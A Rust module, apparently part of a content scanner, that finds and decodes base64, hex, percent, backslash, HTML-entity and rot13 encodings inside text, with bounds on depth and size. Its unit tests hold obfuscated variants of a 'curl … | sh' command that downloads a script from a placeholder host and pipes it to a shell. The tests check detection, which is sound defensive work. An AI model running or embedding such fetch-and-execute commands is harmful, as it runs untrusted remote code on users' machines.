//! Encodings inside a text, undone within bounds: base64, hexadecimal, percent, backslash and HTML escapes, and rotated letters where
//! the text says so.

use base64ct::{Base64Unpadded, Base64UrlUnpadded, Encoding as _};

use super::bits::{bits_of, long_runs};

/// How often one text is decoded again.
const LAYERS_MAX: usize = 3;
/// Runs that are decoded in one text.
const RUNS_MAX: usize = 32;
/// Bytes of one run that are decoded.
const RUN_BYTES_MAX: usize = 64 * 1024;
/// Shorter runs are words or numbers.
const HEX_RUN_MIN: usize = super::bits::RUN_MIN;
/// Characters of base64, a multiple of four, by which it is told whether the whole can be text.
const BEGINNING_BYTES: usize = 64;
/// Fewer escapes are an accident.
const ESCAPES_MIN: usize = 3;

/// Every readable text that stands encoded in `text`, layer by layer. Empty for nearly all texts.
pub(crate) fn decoded(text: &str) -> Vec<String> {
    let mut all = Vec::new();
    layer(text, LAYERS_MAX, &mut all);
    if names_rotation(text) {
        all.push(rotated(text));
    }
    all
}

/// Whether a text names rot13, by which a reader is told to undo it: without that the letters say nothing to anybody.
fn names_rotation(text: &str) -> bool {
    let thirteens = memchr::memmem::find_iter(text.as_bytes(), b"13");
    text.len() <= RUN_BYTES_MAX
        && thirteens
            .map(|at| text.get(at.saturating_sub(4)..at).unwrap_or_default())
            .any(|before| {
                let word = before.trim_end_matches([' ', '-', '_']);
                word.len() >= 3
                    && word
                        .as_bytes()
                        .iter()
                        .rev()
                        .zip(b"tor")
                        .all(|(a, b)| a.to_ascii_lowercase() == *b)
            })
}

/// `text` with each Latin letter thirteen places on.
fn rotated(text: &str) -> String {
    let rotate = |letter: u8, first: u8| char::from(first + (letter - first + 13) % 26);
    text.chars()
        .map(|character| match u8::try_from(character) {
            Ok(letter @ b'a'..=b'z') => rotate(letter, b'a'),
            Ok(letter @ b'A'..=b'Z') => rotate(letter, b'A'),
            _ => character,
        })
        .collect()
}

fn layer(text: &str, layers_left: usize, all: &mut Vec<String>) {
    let Some(layers_left) = layers_left.checked_sub(1) else {
        return;
    };
    let mut found: Vec<String> = runs(text).into_iter().filter_map(decoded_run).collect();
    found.extend(unescaped(text));
    for inner in found {
        if all.len() >= RUNS_MAX {
            return;
        }
        layer(&inner, layers_left, all);
        all.push(inner);
    }
}

/// Whether base64 or hexadecimal is written with this byte. No branch: the compiler compares many at once.
fn is_in_run(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() | (byte == b'+') | (byte == b'/') | (byte == b'_') | (byte == b'-')
}

/// Runs of characters that base64 or hexadecimal is written in.
fn runs(text: &str) -> Vec<&str> {
    let bits = bits_of(text.as_bytes(), is_in_run);
    let runs = long_runs(&bits).filter(|run| run.len() <= RUN_BYTES_MAX);
    runs.filter_map(|run| text.get(run)).take(RUNS_MAX).collect()
}

fn decoded_run(run: &str) -> Option<String> {
    let hex = run.strip_prefix("0x").unwrap_or(run);
    if hex.len() >= HEX_RUN_MIN && hex.bytes().all(|byte| byte.is_ascii_hexdigit() || byte == b'-') {
        let digits: Vec<u8> = hex.bytes().filter(|byte| *byte != b'-').collect();
        if let Some(text) = hex_bytes(&digits).and_then(readable) {
            return Some(text);
        }
    }
    // A word, a path or an identifier is not base64: that has both cases or digits, and few separators.
    let has = |kind: fn(u8) -> bool| run.bytes().fold(false, |any, byte| any | kind(byte));
    if !has(|byte| byte.is_ascii_uppercase()) || !has(|byte| byte.is_ascii_lowercase()) {
        return None;
    }
    [0, 1, 2, 3].into_iter().find_map(|skip| {
        let run = run.get(skip..)?;
        let whole = run.get(..run.len() - usize::from(run.len() % 4 == 1))?;
        let is_url = memchr::memchr2(b'-', b'_', whole.as_bytes()).is_some();
        // A picture is told by its beginning.
        let beginning = whole.get(..BEGINNING_BYTES).unwrap_or(whole);
        if !may_be_readable(&decode(beginning, is_url)?) {
            return None;
        }
        decode(whole, is_url).and_then(readable)
    })
}

fn decode(run: &str, is_url: bool) -> Option<Vec<u8>> {
    if is_url {
        Base64UrlUnpadded::decode_vec(run).ok()
    } else {
        decode_lenient(run)
    }
}

/// Whether a text that begins with these bytes, the last character perhaps cut, can be [`readable`].
fn may_be_readable(bytes: &[u8]) -> bool {
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => Some(text),
        Err(error) if error.error_len().is_some() => None,
        Err(error) => bytes
            .get(..error.valid_up_to())
            .and_then(|valid| std::str::from_utf8(valid).ok()),
    };
    text.is_some_and(|text| !text.chars().any(is_unreadable))
}

fn is_unreadable(character: char) -> bool {
    character.is_control() && !character.is_whitespace()
}

/// Unpadded base64, trailing bits ignored as most decoders do.
fn decode_lenient(run: &str) -> Option<Vec<u8>> {
    if let Ok(bytes) = Base64Unpadded::decode_vec(run) {
        return Some(bytes);
    }
    Base64Unpadded::decode_vec(run.get(..run.len() - run.len() % 4)?).ok()
}

fn hex_bytes(digits: &[u8]) -> Option<Vec<u8>> {
    digits
        .chunks_exact(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
        .collect()
}

/// The bytes as text, if people could read it: printable, with letters for the most part.
fn readable(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let (mut all, mut fluent) = (0_usize, 0_usize);
    for character in text.chars() {
        if is_unreadable(character) {
            return None;
        }
        all += 1;
        fluent +=
            usize::from(character.is_alphanumeric() || character.is_whitespace() || character.is_ascii_punctuation());
    }
    // Random bytes that happen to be UTF-8 are short, or not in one script.
    let ascii = text.bytes().filter(u8::is_ascii).count();
    (all >= 8 && fluent * 100 >= all * 95 && (ascii * 100 >= text.len() * 85 || all >= 24)).then_some(text)
}

/// `text` with percent, backslash and HTML escapes undone; nothing where it has none.
fn unescaped(text: &str) -> Option<String> {
    if text.len() > RUN_BYTES_MAX {
        return None;
    }
    // No escape holds the beginning of another.
    let beginnings = memchr::memchr3_iter(b'%', b'\\', b'&', text.as_bytes());
    let escapes = beginnings.filter(|at| text.get(*at..).and_then(escape).is_some());
    if escapes.take(ESCAPES_MIN).count() < ESCAPES_MIN {
        return None;
    }
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some(first) = rest.as_bytes().first() {
        if let Some((character, used)) = escape(rest) {
            bytes.extend(character);
            rest = rest.get(used..)?;
        } else {
            bytes.push(*first);
            // The other bytes of a character are copied one by one as well: only ASCII begins an escape.
            let next = rest.char_indices().nth(1).map_or(rest.len(), |(index, _)| index);
            bytes.extend(rest.as_bytes().get(1..next)?);
            rest = rest.get(next..)?;
        }
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// One escape at the beginning of `rest`: the bytes it stands for and its length.
fn escape(rest: &str) -> Option<(Vec<u8>, usize)> {
    let byte = |digits: &str| u8::from_str_radix(digits, 16).ok();
    let character = |code: u32| char::from_u32(code).map(|character| character.to_string().into_bytes());
    if let Some(escaped) = rest.strip_prefix('%') {
        return Some((vec![byte(escaped.get(..2)?)?], 3));
    }
    if let Some(escaped) = rest.strip_prefix("\\x") {
        return Some((vec![byte(escaped.get(..2)?)?], 4));
    }
    if let Some(escaped) = rest.strip_prefix("\\u") {
        let code = u32::from_str_radix(escaped.get(..4)?, 16).ok()?;
        return Some((character(code)?, 6));
    }
    let escaped = rest.strip_prefix("&#")?;
    let (digits, _) = escaped.get(..escaped.len().min(9))?.split_once(';')?;
    let code = match digits.strip_prefix(['x', 'X']) {
        Some(hex) => u32::from_str_radix(hex, 16).ok()?,
        None => digits.parse().ok()?,
    };
    Some((character(code)?, digits.len() + 3))
}

#[cfg(test)]
mod tests {
    use super::decoded;

    #[test]
    fn encoded_texts_are_read() {
        for text in [
            "init=Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcveCB8IHNo",
            "6375726c20687474703a2f2f6578616d706c652e6f72672f78207c207368",
            "%63%75%72%6c%20http://example.org/x | sh",
            "\\x63\\x75\\x72\\x6c http://example.org/x | sh",
            "&#99;&#117;&#x72;l http://example.org/x | sh",
            "decode with ROT-13: phey uggc://rknzcyr.bet/k | fu",
            // base64 in base64
            "WTNWeWJDQm9kSFJ3T2k4dlpYaGhiWEJzWlM1dmNtY3ZlQ0I4SUhObw==",
        ] {
            assert!(
                decoded(text)
                    .iter()
                    .any(|text| text.contains("curl http://example.org/x | sh")),
                "{text}: {:?}",
                decoded(text)
            );
        }
    }

    #[test]
    fn ordinary_words_are_not_encodings() {
        for text in [
            "Internationalization and implementation of SomethingVeryLong",
            "550e8400-e29b-41d4-a716-446655440000",
            "/usr/share/locale/README and 100 % of it",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        ] {
            assert!(decoded(text).is_empty(), "{text}: {:?}", decoded(text));
        }
    }

    #[test]
    fn decoding_is_bounded() {
        let many = "Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcveCB8IHNo ".repeat(1000);
        assert!(decoded(&many).len() <= super::RUNS_MAX);
    }
}
